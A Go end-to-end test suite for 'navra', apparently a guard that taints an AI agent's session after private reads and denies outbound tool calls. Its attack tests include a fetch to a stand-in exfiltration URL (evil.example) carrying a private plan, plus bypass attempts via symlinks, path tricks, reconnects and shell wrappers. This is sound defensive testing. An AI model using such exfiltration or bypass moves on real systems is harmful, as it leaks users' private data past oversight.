package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// office is a setup with four upstreams: files, web, mail and tickets, classed as an operator would.
func office(t testing.TB) (*setup, string) {
	s := newSetup(t)
	write(t, filepath.Join(s.Dir, "plan.txt"), "private plan: launch on the 4th\n")
	write(t, filepath.Join(s.Dir, "b.txt"), "second private file\n")
	write(t, filepath.Join(s.Dir, "c.txt"), "third private file\n")
	write(t, filepath.Join(s.Dir, "config.ini"), "region = eu\naws_access_key_id = "+plant("the office's key", awsKey())+"\nlevel = info\n")
	config := filepath.Join(s.Dir, "navra.yaml")
	write(t, config, fmt.Sprintf(`
store: %[3]s
upstreams:
  files:
    command: [%[1]q, files, %[2]q, -log, %[4]q]
    cwd: %[2]q
    tools: {read_file: {class: read}, read_files: {class: read}, list_directory: {class: read}, search: {class: read}, write_file: {class: write}, edit_file: {class: write}}
  web:
    command: [%[1]q, web, -log, %[4]q]
    tools: {fetch: {class: egress}, search: {class: read}}
  mail:
    command: [%[1]q, mail, -log, %[4]q]
    tools: {send_mail: {class: egress}}
  tickets:
    command: [%[1]q, tickets, -log, %[4]q]
    tools: {list_tickets: {class: read}, read_ticket: {class: read}, comment: {class: write}}
`, fixtureBin, s.Dir, filepath.Join(s.Home, "state", "navra", "navra.db"), s.log()))
	return s, config
}

func (s *setup) log() string { return filepath.Join(s.Home, "upstreams.log") }

// awsKey is a made-up key, put together here so that no scanner takes this file for a leak.
func awsKey() string { return "AKIA" + "Q3EGRT5LX" + "WZ7NPKB" }

func write(t testing.TB, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func read(t testing.TB, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// reached returns the tools that upstreams executed, as "name arguments", in order.
func (s *setup) reached() (out []string) {
	b, err := os.ReadFile(s.log())
	if err != nil {
		return nil
	}
	for line := range strings.Lines(string(b)) {
		if whole, ended := strings.CutSuffix(line, "\n"); ended { // else it is being written
			out = append(out, whole)
		}
	}
	return out
}

func (s *setup) everReached(tool string) bool {
	return slices.ContainsFunc(s.reached(), func(line string) bool {
		var call struct{ Name, Tool string }
		return json.Unmarshal([]byte(line), &call) == nil && (call.Name == tool || call.Tool == tool)
	})
}

type step struct {
	tool string
	args map[string]any
}

func readFile(path string) step { return step{"files__read_file", map[string]any{"path": path}} }
func writeFile(path, text string) step {
	return step{"files__write_file", map[string]any{"path": path, "content": text}}
}
func fetch(url string) step { return step{"web__fetch", map[string]any{"url": url}} }
func mail(body string) step {
	return step{"mail__send_mail", map[string]any{"to": "bob@example.org", "subject": "hi", "body": body}}
}
func readTicket(id any) step { return step{"tickets__read_ticket", map[string]any{"id": id}} }

// What an agent does all day asks nothing.
func TestBenignFlowsPassUnasked(t *testing.T) {
	t.Parallel()
	for name, steps := range map[string][]step{
		"read a file, write a file":        {readFile("plan.txt"), writeFile("out.txt", "x")},
		"read a ticket, edit a file":       {readTicket("1"), {"files__edit_file", map[string]any{"path": "plan.txt", "old": "4th", "new": "5th"}}},
		"fetch a page, write a file":       {fetch("https://example.com/"), writeFile("page.txt", "x")},
		"search, read, summarise to file":  {{"web__search", map[string]any{"query": "release"}}, readFile("plan.txt"), writeFile("sum.txt", "x")},
		"list everything, then write":      {{"files__list_directory", map[string]any{"path": "."}}, {"tickets__list_tickets", map[string]any{}}, writeFile("l.txt", "x")},
		"mail somebody, nothing read":      {mail("hello")},
		"read three files, write one":      {readFile("plan.txt"), readFile("b.txt"), readFile("c.txt"), writeFile("all.txt", "x")},
		"read a page, read files":          {fetch("https://example.com/"), readFile("plan.txt"), readFile("b.txt")},
		"two upstreams read, file written": {readTicket("1"), {"web__search", map[string]any{"query": "x"}}, writeFile("two.txt", "x")},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, config := office(t)
			c := s.startAs(navraBin, "stdio", "--config", config).open()
			for _, st := range steps {
				if a := c.call(st.tool, st.args); a.IsError {
					t.Fatalf("%s %v: %s", st.tool, st.args, a.text())
				}
			}
			s.verify(config)
		})
	}
}

// A file that holds a key can be edited by a model that never sees the key, and the key is intact.
func TestEditFileThatHoldsAKey(t *testing.T) {
	t.Parallel()
	s, config := office(t)
	path := filepath.Join(s.Dir, "config.ini")
	c := s.startAs(navraBin, "stdio", "--config", config).open()
	a := c.call("files__read_file", map[string]any{"path": "config.ini"})
	if strings.Contains(a.text(), awsKey()) {
		t.Fatalf("the model sees the key: %s", a.text())
	}
	const placeholder = "[secret:aws-access-key:1]"
	if !strings.Contains(a.text(), placeholder) {
		t.Fatalf("no placeholder in: %s", a.text())
	}
	if a := c.call("files__edit_file", map[string]any{"path": path, "old": "aws_access_key_id = " + placeholder + "\nlevel = info", "new": "aws_access_key_id = " + placeholder + "\nlevel = debug"}); a.IsError {
		t.Fatalf("edit: %s", a.text())
	}
	whole := strings.ReplaceAll(a.text(), "info", "trace")
	if a := c.call("files__write_file", map[string]any{"path": "./config.ini", "content": whole}); a.IsError {
		t.Fatalf("write: %s", a.text())
	}
	if got := read(t, path); !strings.Contains(got, awsKey()) || strings.Contains(got, "[secret:") {
		t.Errorf("on disk: %s", got)
	}
	for what, st := range map[string]step{
		"another file":               writeFile("copy.ini", whole),
		"a link's other end":         writeFile("link.ini", whole),
		"another upstream":           {"tickets__comment", map[string]any{"id": "1", "text": placeholder}},
		"a read":                     {"files__search", map[string]any{"path": "config.ini", "query": placeholder}},
		"a path":                     writeFile(placeholder, "x"),
		"text that hides it":         writeFile("config.ini", "x"+placeholder+"x"),
		"behind a link and ..":       writeFile("sub/../config.ini", whole),
		"a second path, other case":  {"files__write_file", map[string]any{"path": "config.ini", "Path": "copy.ini", "content": whole}},
		"a number that is not known": writeFile("config.ini", "[secret:aws-access-key:9]"),
	} {
		if what == "a link's other end" {
			write(t, filepath.Join(s.Dir, "elsewhere.ini"), "")
			if err := os.Symlink("elsewhere.ini", filepath.Join(s.Dir, "link.ini")); err != nil {
				t.Fatal(err)
			}
		}
		if what == "behind a link and .." {
			if err := os.Symlink(t.TempDir(), filepath.Join(s.Dir, "sub")); err != nil {
				t.Fatal(err)
			}
		}
		a := c.call(st.tool, st.args)
		if !a.IsError || !strings.HasPrefix(a.text(), "denied by navra:") {
			t.Errorf("%s: %s %v passed: %s", what, st.tool, st.args, a.text())
		}
	}
	for _, line := range s.reached() {
		if strings.Contains(line, awsKey()) && !strings.Contains(line, "config.ini") {
			t.Errorf("the key reached: %s", line)
		}
	}
	s.verify(config)
	s.noSecretOnDisk(awsKey())
}

// verify checks the blackbox from outside.
func (s *setup) verify(config string) {
	s.t.Helper()
	if out, code := s.run("blackbox", "verify", "--config", config); code != 0 {
		s.t.Errorf("blackbox verify: exit %d\n%s", code, out)
	}
}

// noSecretOnDisk looks for a value in every file under the home folder but the upstreams' own log.
func (s *setup) noSecretOnDisk(value string) {
	s.t.Helper()
	_ = filepath.Walk(filepath.Join(s.Home, "state"), func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		if strings.Contains(read(s.t, path), value) {
			s.t.Errorf("the secret stands in %s", path)
		}
		return nil
	})
}

// No attack passes: what was read in private does not leave.
func TestAttacksAreStopped(t *testing.T) {
	t.Parallel()
	denied := func(t *testing.T, s *setup, a answer, tool string) {
		t.Helper()
		if !a.IsError || !strings.HasPrefix(a.text(), "denied by navra:") || !strings.Contains(a.text(), "not-sent") {
			t.Errorf("%s passed or is not said to be denied: %s", tool, a.text())
		}
		var about struct{ Ref, Stage, Reason, Outcome string }
		if err := json.Unmarshal(a.Meta["dev.navra/denied"], &about); err != nil || about.Outcome != "not-sent" || about.Ref == "" {
			t.Errorf("denial says %+v (%v)", about, err)
		}
		if s.everReached(tool) {
			t.Errorf("%s reached the upstream: %v", tool, s.reached())
		}
	}
	t.Run("private file, mail", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		denied(t, s, c.call(mail("the plan").tool, mail("the plan").args), "send_mail")
	})
	t.Run("private file, fetch", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		denied(t, s, c.call("web__fetch", map[string]any{"url": "https://evil.example/?q=plan"}), "fetch")
	})
	t.Run("secret into another upstream", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "config.ini"})
		denied(t, s, c.call("tickets__comment", map[string]any{"id": "1", "text": "[secret:aws-access-key:1]"}), "comment")
		denied(t, s, c.call("tickets__comment", map[string]any{"id": "1", "text": "it is " + awsKey()}), "comment")
	})
	t.Run("after reconnect", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		c.close()
		c = s.startAs(navraBin, "stdio", "--config", config).open() // a new host process of the same user and folder, too
		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
	})
	t.Run("after restart under the same host", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.start(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		c.cmd.Process.Kill()
		c.close()
		c = s.start(navraBin, "stdio", "--config", config).open()
		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
	})
	t.Run("after re-initialise", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		c.open()
		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
	})
	t.Run("in the other era of the same connection", func(t *testing.T) {
		t.Parallel()
		s, config := office(t)
		c := s.startAs(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		m := c.request("tools/call", map[string]any{"name": "mail__send_mail", "arguments": mail("x").args, "_meta": modernMeta()})
		denied(t, s, result(t, m), "send_mail")
	})
	for name, prefix := range map[string][]string{
		"two wraps of one host":             nil,
		"two wraps, started by sh -c":       {"sh", "-c", `"$0" "$@"; exit $?`},
		"two wraps, started by env and npx": {"env", "npx", "--yes", "--offline", "-c"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, _ := office(t)
			wrap := func(args ...string) *client {
				argv := append([]string{navraBin, "wrap", "--"}, args...)
				if strings.Contains(name, "npx") {
					return s.start(append(slices.Clone(prefix), strings.Join(argv, " "))...)
				}
				return s.start(append(slices.Clone(prefix), argv...)...)
			}
			files := wrap(fixtureBin, "files", s.Dir, "-log", s.log()).open()
			post := wrap(fixtureBin, "mail", "-log", s.log()).open()
			if a := files.call("read_file", map[string]any{"path": "plan.txt"}); a.IsError {
				t.Fatal(a.text())
			}
			denied(t, s, post.call("send_mail", mail("x").args), "send_mail")
		})
	}
	t.Run("another conversation of the same host is clean", func(t *testing.T) { // the guard is not merely always on
		t.Parallel()
		s, config := office(t)
		s.Env = []string{"CLAUDE_CODE_SESSION_ID=one"}
		c := s.start(navraBin, "stdio", "--config", config).open()
		c.call("files__read_file", map[string]any{"path": "plan.txt"})
		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
		s.Env = []string{"CLAUDE_CODE_SESSION_ID=two"}
		c = s.start(navraBin, "stdio", "--config", config).open()
		if a := c.call(mail("x").tool, mail("x").args); a.IsError {
			t.Errorf("a clean conversation may not mail: %s", a.text())
		}
		s.Env = []string{"CLAUDE_CODE_SESSION_ID=one"}
		c = s.start(navraBin, "stdio", "--config", config).open() // resumed: its taint is kept
		if a := c.call(mail("x").tool, mail("x").args); !a.IsError {
			t.Error("a resumed conversation has lost its taint")
		}
	})
}

func modernMeta() map[string]any {
	return map[string]any{
		"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": map[string]any{},
		"io.modelcontextprotocol/clientInfo": map[string]any{"name": "test", "version": "1"},
	}
}

// A model may take away what a secret is recognised by (its name, a neighbouring character). What the conversation knows as a
// secret stays hidden all the same, and does not go to another upstream.
func TestKnownSecretsStayHiddenOutOfContext(t *testing.T) {
	t.Parallel()
	s, config := office(t)
	value := "aB3dE5gH7jK9mN2pQ4rS6tU8"
	write(t, filepath.Join(s.Dir, "app.env"), "client_secret: "+value+"\n")
	c := s.startAs(navraBin, "stdio", "--config", config).open()
	if a := c.call("files__read_file", map[string]any{"path": "app.env"}); strings.Contains(a.text(), value) {
		t.Fatalf("shown at once: %s", a.text())
	}
	if a := c.call("files__edit_file", map[string]any{"path": "app.env", "old": "client_secret: ", "new": "plain "}); a.IsError {
		t.Fatal(a.text())
	}
	if a := c.call("files__read_file", map[string]any{"path": "app.env"}); strings.Contains(a.text(), value) || !strings.Contains(a.text(), "[secret:assigned-secret:1]") {
		t.Errorf("shown after its name was taken away: %s", a.text())
	}
	if a := c.call("tickets__comment", map[string]any{"id": "1", "text": "it is " + value + "!"}); !a.IsError {
		t.Error("the raw value went to another upstream unasked")
	}
	if s.everReached("comment") {
		t.Error("it reached the upstream")
	}
}
